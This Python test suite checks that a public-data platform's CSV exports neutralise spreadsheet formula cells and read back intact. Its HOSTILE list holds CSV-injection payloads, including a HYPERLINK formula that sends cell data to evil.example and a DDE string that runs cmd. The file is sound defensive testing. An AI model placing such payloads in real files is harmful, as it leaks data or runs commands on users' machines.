"""Every CSV the platform writes neutralises formula cells (core/csvcells): the public
catalogue export, CKAN's CSV records, the datastore export, the GDPR register export, the
archives package of retention and the reversibility dump; read back as a user gets them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import duckdb
from fastapi.testclient import TestClient
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import Integer, String, update
from sqlalchemy.schema import Column

from patrimoine.access.principal import Principal
from patrimoine.bootstrap import Services
from patrimoine.core import csvcells
from patrimoine.datastore import export
from patrimoine.interop import public
from patrimoine.inventory.models import Dataset
from patrimoine.protection.register import service as register
from patrimoine.protection.register import spreadsheet
from patrimoine.retention.apply import apply_plan
from patrimoine.reversibility import formats
from tests import factories as f

SYSTEM = Principal.system("tests")
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1;"clic")', "+33 1 02", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)", "\t=1+1", "\r=1+1", "'=déjà une apostrophe"]


def _cells(data: bytes, delimiter: str = ",") -> list[str]:
    text = data.decode("utf-8-sig")
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [c for c in cells if c[:1] in csvcells.FORMULA_STARTS]


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1 "), max_size=8) | st.text(max_size=8))
def test_neutralise_is_safe_and_reversible(value: str) -> None:
    cell = csvcells.neutralise(value)
    assert not cell.startswith(csvcells.FORMULA_STARTS)
    assert csvcells.restore(cell) == value


def test_the_sql_twin_agrees_with_the_python_rule() -> None:
    values = [*HOSTILE, "", "'", "''", "''+1", "texte", "'texte", " =1"]
    con = duckdb.connect()
    con.execute("CREATE TABLE t (v VARCHAR)")
    con.executemany("INSERT INTO t VALUES (?)", [[v] for v in values])
    got = [r[0] for r in con.execute(f"SELECT {export._neutralised_sql('v')} FROM t "
                                     "ORDER BY rowid").fetchall()]
    assert got == [csvcells.neutralise(v) for v in values]


def test_public_catalogue_export_and_ckan_csv(services: Services, client: TestClient,
                                             tmp_path: Path) -> None:
    world = f.portal_world(services, tmp_path)
    rows = "".join(f'"{v.replace(chr(34), chr(34) * 2)}";{i}\n' for i, v in enumerate(HOSTILE))
    f.load(services, world.canteen, f.write(tmp_path, "hostile.csv", "nom;n\n" + rows))
    with services.db.unit_of_work() as s:
        s.execute(update(Dataset).where(Dataset.id == world.canteen.id)
                  .values(title=HOSTILE[0], keywords=["@cmd"]))

    catalogue = client.get("/api/v1/inventory/export-scdl?incomplets=true")  # anonymous
    assert catalogue.status_code == 200
    cells = _cells(catalogue.content)
    assert "'" + HOSTILE[0] in cells and _unsafe(cells) == []

    rid = public.resource_uuid(world.canteen, "csv")
    for fmt, sep in (("csv", ","), ("tsv", "\t")):
        r = client.get("/api/3/action/datastore_search",
                       params={"resource_id": rid, "records_format": fmt})
        assert r.status_code == 200, r.text
        cells = _cells(r.json()["result"]["records"].encode(), sep)
        assert _unsafe(cells) == [] and "'" + HOSTILE[4] in cells

    download = client.get(f"/api/v1/datasets/{world.canteen.slug}/export.csv")
    cells = _cells(download.content)
    assert _unsafe(cells) == [] and "''=déjà une apostrophe" in cells


def test_register_export_neutralises_and_its_import_takes_it_back(services: Services) -> None:
    with services.db.unit_of_work() as s:
        org = f.organisation(s, "Commune A")
        register.create_activity(s, SYSTEM, f.full_activity(org.id, name=HOSTILE[0],
                                                            description=HOSTILE[2]))
        data = spreadsheet.export_register(s, SYSTEM, org, "csv")
    cells = _cells(data, ";")
    assert "'" + HOSTILE[0] in cells and _unsafe(cells) == []
    with services.db.unit_of_work() as s:
        planned = spreadsheet.plan_register_import(s, SYSTEM, data, "registre.csv")
        assert planned.ok and planned.counts["unchanged"] == 1, planned.error_lines()


def test_archives_package_csv(services: Services, tmp_path: Path) -> None:
    w = f.retention_world(services)
    f.load(services, w.dataset, f.write(tmp_path, "donnees.csv",
                                        "nom,date_fin\n" + "".join(
                                            f"{v.replace(chr(10), ' ')},2018-01-31\n"
                                            for v in ("@moi", "-1+1", "Dupont"))))
    f.set_rule(services, w.dataset, duration=2, unit="years", start_event="file_closed",
               event_date="2020-01-31", final_fate="archives")
    with services.db.unit_of_work() as s:
        outcome = apply_plan(s, services.settings, SYSTEM)
    package = services.settings.data_dir / outcome.done[0]["details"]["package"]
    cells = _cells((package / "version-1.csv").read_bytes())
    assert {"'@moi", "'-1+1", "Dupont"} <= set(cells) and _unsafe(cells) == []


def test_reversibility_dump_neutralises_text_only_and_reads_it_back() -> None:
    text, number = Column("t", String()), Column("n", Integer())
    for value in HOSTILE:
        cell = formats.to_text(text, value)
        assert cell[:1] not in csvcells.FORMULA_STARTS
        assert formats.from_text(text, cell) == value
    assert formats.to_text(number, -5) == "-5"  # a number is data, never a formula
